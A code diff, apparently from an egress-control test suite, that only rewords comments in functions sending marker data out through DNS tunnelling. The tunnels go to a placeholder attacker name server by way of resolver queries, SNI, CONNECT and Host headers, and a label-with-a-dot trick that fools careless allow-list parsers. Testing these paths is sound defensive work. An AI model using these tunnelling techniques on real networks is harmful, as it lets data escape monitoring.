@@ -36,7 +36,7 @@ function encoded(marker: string): Record<string, Buffer[]> {
 
 async function throughResolver({ listeners, names }: Brief, marker: string): Promise<Attempt[]> {
   const types: TypeName[] = ['A', 'TXT', 'NULL', 'CNAME']
-  // A name below a listed one is another name; a dot inside a label makes the unlisted look listed to a careless parser.
+  // A name below a listed one is not listed; a dot inside a label makes an unlisted name look listed to a careless parser.
   const zones = { [names.attacker]: labelsOf(names.attacker), [`below ${names.jira}`]: labelsOf(names.jira) }
   const tries = Object.entries(zones).flatMap(([zone, suffix]) =>
     Object.entries(encoded(marker)).flatMap(([encoding, labels]) =>
@@ -82,7 +82,7 @@ async function throughOthers(
   )
 }
 
-/** Names of every kind that a tunnel could make, each carrying something new. */
+/** Names of every type that a tunnel could use, each with new data. */
 function payloads(marker: string): string[] {
   const words = ['north', 'amber', 'delta', 'violet', 'maple', 'seven', 'harbor', 'cobalt']
   return Array.from({ length: 16 }, (_, index) => {
@@ -99,8 +99,8 @@ function payloads(marker: string): string[] {
 }
 
 /**
- * The one place where a name may carry data to somebody else: the resolver answers by itself, but the proxy resolves
- * what a connection names. Every way to name a host is tried, each with names of its own.
+ * The only way for a name to carry data out: the resolver answers by itself, but the proxy resolves the host of a connection.
+ * Tries every way to name a host, each with its own names.
  */
 async function underWildcard(brief: Brief, marker: string): Promise<Attempt[]> {
   const { listeners, names } = brief
@@ -112,9 +112,9 @@ async function underWildcard(brief: Brief, marker: string): Promise<Attempt[]> {
     },
     Host: async (host) => exchange(await openTcp(listeners.http), get(host, '/')),
   }
-  // Names that were only looked up spend the same budget, so they come last: the attack is to be at its best.
+  // Names that are only looked up use the same budget, so they come last, to give the attack its best chance.
   const asking = { DNS: (host: string) => ask(listeners.dns, labelsOf(host), 'A', false) }
-  // Asking again for a name that was paid for is free, so the control can tell a spent budget from a closed gateway.
+  // A name is charged once, so repeating one lets the control tell a used-up budget from a closed gateway.
   await askAssets(brief, marker)
   const attempts: Attempt[] = []
   for (const ways of [connecting, asking]) {
@@ -127,7 +127,7 @@ async function underWildcard(brief: Brief, marker: string): Promise<Attempt[]> {
   }
   return ['SNI', 'CONNECT', 'Host', 'DNS'].map((way) => {
     const own = attempts.filter(({ what }) => what === way)
-    // What counts is what the attacker's name server was asked; from inside that cannot be seen.
+    // Only the queries at the attacker's name server count, and they are not visible from inside.
     return { what: `${own.length} names by ${way}`, reached: false, said: tally(own.map((one) => one.said)) }
   })
 }
